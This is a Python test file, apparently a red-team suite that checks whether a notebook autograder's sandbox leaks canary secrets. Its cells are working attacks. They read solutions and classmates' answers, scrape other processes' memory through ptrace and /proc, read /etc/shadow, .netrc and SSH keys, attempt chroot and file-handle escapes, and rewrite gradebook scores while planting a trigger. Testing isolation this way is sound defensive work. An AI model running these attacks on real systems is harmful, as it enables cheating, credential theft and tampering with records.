# ruff: noqa
# Attacks that look for what a student must not see; whatever is found is printed and raised.
import os
import re
import sys

SECRET = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{16}")


def search(data):
    data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
    return {match.decode() for match in SECRET.findall(data)}


def read(path, limit=8 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except (OSError, ValueError):
        return b""


def walk(top, limit=3000):
    found = set()
    seen = 0
    for folder, folders, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            seen += 1
            if seen > limit:
                return found
            if os.path.isfile(path):
                found |= search(read(path))
    return found


def tell(found):
    print("found", sorted(found))
    for name in sorted(found):
        print(name, file=sys.stderr)
    raise RuntimeError(f"found {sorted(found)}")


# %% course_folder
# goal: the solutions, the hidden checks and everything else in the course's folder
# cell own
tell(walk("@COURSE@") | search(os.listdir("@COURSE@")))


# %% parents_of_the_working_folder
# goal: the class lies above the working folder
# cell standardize
def standardize(x):
    folders = "..", "../..", "../../source", "../../submitted"
    tell(set().union(*(walk(folder, 200) for folder in folders)))


# %% reference_from_the_source_folder
# goal: the reference itself, run in place of an answer
# real
# cell standardize
import json

with open("@COURSE@/source/01_signals/signals.ipynb") as file:
    for cell in json.load(file)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "standardize":
            exec("".join(cell["source"]))


# %% classmates_answer
# goal: the answer of a student who has it right
# real
# cell standardize
import glob
import json

for path in glob.glob("@COURSE@/submitted/*/01_signals/signals.ipynb"):
    try:
        with open(path) as file:
            for cell in json.load(file)["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade_id") == "standardize":
                    if "x.mean(axis=0)" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
    except Exception:
        pass
standardize


# %% gradebook
# goal: read the gradebook, raise the own marks, and leave a trigger that does so again
# cell own
import sqlite3

found = search(read("@COURSE@/gradebook.db"))
try:
    with sqlite3.connect("@COURSE@/gradebook.db") as database:
        found |= search(repr(database.execute("SELECT * FROM student").fetchall()))
        database.execute("UPDATE grade SET manual_score = 26, auto_score = 26")
        database.execute(
            "CREATE TRIGGER best AFTER INSERT ON grade BEGIN UPDATE grade SET manual_score = 2; END"
        )
except sqlite3.Error:
    pass
tell(found)


# %% homes
# goal: what lies in the homes of this machine's people, the grader's first
# cell own
import pwd

found = walk("@HOME@") | walk(os.path.expanduser("~")) | walk("/root", 300)
for person in pwd.getpwall():
    found |= search(read(os.path.join(person.pw_dir, ".netrc")))
tell(found)


# %% environment
# goal: the grader's environment, inherited or read from its process
# cell standardize
def standardize(x):
    found = search(repr(dict(os.environ)))
    for name in os.listdir("/proc"):
        if name.isdigit():
            found |= search(read(f"/proc/{name}/environ")) | search(read(f"/proc/{name}/cmdline"))
    tell(found)


# %% other_processes_files
# goal: the course by way of other processes' roots, working folders and open files
# cell own
found = set()
for name in os.listdir("/proc"):
    if not name.isdigit():
        continue
    for path in (f"/proc/{name}/root@COURSE@", f"/proc/{name}/cwd", f"/proc/{name}/root@HOME@"):
        found |= walk(path, 300)
    for kind in ("fd", "map_files", "task"):
        try:
            for entry in os.listdir(f"/proc/{name}/{kind}"):
                path = f"/proc/{name}/{kind}/{entry}"
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    found |= search(read(path))
        except OSError:
            pass
tell(found)


# %% other_processes_memory
# goal: the examiner's memory, by /proc, ptrace and process_vm_readv
# cell standardize
import ctypes


def standardize(x):
    libc = ctypes.CDLL(None, use_errno=True)
    found = set()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        pid = int(name)
        attached = libc.ptrace(0x4206, pid, 0, 0) == 0  # PTRACE_SEIZE
        maps = [line for line in read(f"/proc/{pid}/maps").decode().splitlines() if " rw" in line]
        for line in maps[:200]:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            size = min(end - start, 4 << 20)
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(start)
                    found |= search(memory.read(size))
            except (OSError, ValueError):
                pass
            buffer = ctypes.create_string_buffer(size)
            here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), size)
            there = (ctypes.c_void_p * 2)(start, size)
            if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
                found |= search(buffer.raw)
        if attached:
            found.add("ptrace")
    tell(found)


# %% own_memory
# goal: what the process that this one was forked from has left in memory
# cell own
import gc

found = set()
for thing in gc.get_objects():
    if type(thing) is dict:
        for value in list(thing.values()):
            if isinstance(value, (str, bytes)) and len(value) < 1 << 20:
                found |= search(value)
try:
    with open("/proc/self/maps") as file:
        maps = [line.split() for line in file]
    with open("/proc/self/mem", "rb", 0) as memory:
        for span, mode, *rest in maps:
            if mode.startswith("rw"):
                start, end = (int(part, 16) for part in span.split("-"))
                try:
                    memory.seek(start)
                    found |= search(memory.read(min(end - start, 64 << 20)))
                except (OSError, ValueError):
                    pass
except OSError:
    pass
tell(found)


# %% stack_and_modules
# goal: sources and values that frames, modules and caches hold
# cell standardize
import inspect
import linecache
import traceback


def standardize(x):
    found = search(repr(linecache.cache)) | search("".join(traceback.format_stack()))
    for frame in inspect.stack():
        found |= search(repr(frame.code_context))
        found |= search(repr(list(frame.frame.f_locals.values())[:200]))
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith("autograder"):
            found |= search(repr(vars(module)))
    tell(found)


# %% looks_into_the_callable
# goal: what the check hands in is a way into the check
# cell derivative
def derivative(f, x):
    found = set()
    for name in (
        "__globals__",
        "__closure__",
        "__code__",
        "__self__",
        "__dict__",
        "__module__",
        "__builtins__",
        "__class__",
        "__wrapped__",
        "__reduce__",
        "gi_frame",
        "func_globals",
    ):
        try:
            value = getattr(f, name)
            found |= search(repr(value)) | search(repr(getattr(value, "co_consts", "")))
            found |= search(repr(value.get("_secret", "")))
        except BaseException:
            pass
    tell(found)


# %% errors_of_the_callable
# goal: an error of the check's function shows its surroundings
# cell derivative
import traceback


def derivative(f, x):
    found = set()
    for wrong in ("text", None, object(), {}, [[[]]]):
        try:
            f(wrong)
        except BaseException as error:
            found |= search(traceback.format_exc()) | search(repr(vars(error)))
            while error.__traceback__ is not None:
                found |= search(repr(error.__traceback__.tb_frame.f_globals.get("_secret")))
                error.__traceback__ = error.__traceback__.tb_next
    tell(found)


# %% descriptors
# goal: files that this process was born with
# cell own
found = set()
for number in range(3, 1024):
    try:
        found |= search(os.readlink(f"/proc/self/fd/{number}"))
        found |= search(os.pread(number, 1 << 20, 0))
    except OSError:
        pass
tell(found)


# %% passwords
# goal: the accounts of this machine
# cell own
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key"):
    text = read(path).decode()
    if text:
        print("SECRET FILE", path)
print(read("/etc/passwd").decode())


# %% shared_memory
# goal: memory, semaphores and keys that processes share
# cell own
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
found = walk("/dev/shm") | search(read("/proc/keys")) | search(read("/proc/sysvipc/shm"))
for line in read("/proc/sysvipc/shm").decode().splitlines()[1:]:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(int(line.split()[1]), 0, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        found |= search(ctypes.string_at(address, min(int(line.split()[3]), 1 << 20)))
for ring in (-1, -2, -3, -4, -5):
    buffer = ctypes.create_string_buffer(1 << 16)
    if libc.syscall(250, 11, ring, buffer, 1 << 16) > 0:  # keyctl(KEYCTL_READ)
        found |= search(buffer.raw)
key = libc.syscall(248, b"user", b"@TAG@", b"@TAG@", 5, -4)  # add_key to the user's keyring
print("KEY STORED" if key > 0 else "no key")
identifier = libc.shmget(0x4055, 4096, 0o1666)
print("SEGMENT MADE" if identifier >= 0 else "no segment")
tell(found)


# %% core_dump
# goal: a core file of this process, or the program that is told of it
# cell derivative
import resource


def derivative(f, x):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
    except (OSError, ValueError):
        pass
    print(search(read("/proc/sys/kernel/core_pattern")))
    os.abort()


# %% whole_disk
# goal: a notebook that is not in the own folder, anywhere
# cell own
found = set()
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in folder:
        folders.clear()
        continue
    for name in files:
        if name.endswith((".ipynb", ".db", ".netrc")):
            found |= search(read(os.path.join(folder, name)))
tell(found)


# %% open_by_handle
# goal: files by their number on the disk, whatever is mounted
# cell own
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
found = set()
for place in (b"/", b".", b"/etc", b"/tmp", b"/usr"):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, place, handle, ctypes.byref(mount), 0) == 0:
        folder = os.open(place, os.O_RDONLY)
        number = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
        if number >= 0:
            print("HANDLE OPENED")
for chroot in ("/tmp", "."):
    try:
        os.chroot(chroot)
        for _ in range(50):
            os.chdir("..")
        found |= walk(".@COURSE@")
    except OSError:
        pass
tell(found)
